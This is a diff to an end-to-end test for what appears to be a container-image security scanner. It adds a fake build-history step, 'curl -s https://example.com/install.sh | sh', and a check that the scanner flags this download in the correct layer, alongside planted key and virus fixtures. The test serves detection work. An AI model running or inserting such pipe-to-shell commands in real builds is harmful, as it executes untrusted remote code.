@@ -43,7 +43,11 @@ class AllDimensionsE2E {
             .file("srv/app/deploy.pem", key)
             .bytes();
     byte[] upper = new TarWriter().file("opt/.wh.tools.zip", "").bytes();
-    image = CraftedImage.of(CraftedImage.Layer.plain(lower), CraftedImage.Layer.plain(upper));
+    image =
+        CraftedImage.of(CraftedImage.Layer.plain(lower), CraftedImage.Layer.plain(upper))
+            .madeBy(
+                "/bin/sh -c #(nop) ADD file:0123456789ab in / ",
+                "/bin/sh -c curl -s https://example.com/install.sh | sh && rm /opt/tools.zip");
   }
 
   @Test
@@ -74,7 +78,7 @@ class AllDimensionsE2E {
       checkVirus(results.path(1).path("findings"));
       checkKey(results.path(3).path("findings"));
       assertThat(results.path(0).path("findings")).isNotEmpty();
-      assertThat(results.path(2).path("findings")).isNotEmpty();
+      checkStep(results.path(2).path("findings"));
       assertThat(outcome.out()).doesNotContain(key.lines().skip(1).findFirst().orElseThrow());
     }
   }
@@ -111,7 +115,7 @@ class AllDimensionsE2E {
         }
         checkVirus(findings(server, "malware"));
         checkKey(findings(server, "secret"));
-        assertThat(findings(server, "history")).isNotEmpty();
+        checkStep(findings(server, "history"));
         assertThat(findings(server, "vulnerability")).isNotEmpty();
         assertThat(server.stop()).as("stops cleanly on SIGTERM").isIn(0, 143);
       }
@@ -139,6 +143,16 @@ class AllDimensionsE2E {
     assertThat(details.path("member").asText()).endsWith("sub/eicar.txt");
     assertThat(details.path("visible").asText()).isEqualTo("false");
     assertThat(details.path("verdict").asText()).isEqualTo("SUSPECTED");
+  }
+
+  private void checkStep(JsonNode findings) {
+    JsonNode step =
+        findings
+            .valueStream()
+            .filter(one -> one.path("details").path("text").asText().contains("install.sh"))
+            .findFirst()
+            .orElseThrow(() -> new AssertionError("no download in " + findings));
+    assertThat(step.path("layer").asText()).isEqualTo(image.layers().getLast().diffId().toString());
   }
 
   private static void checkKey(JsonNode findings) {
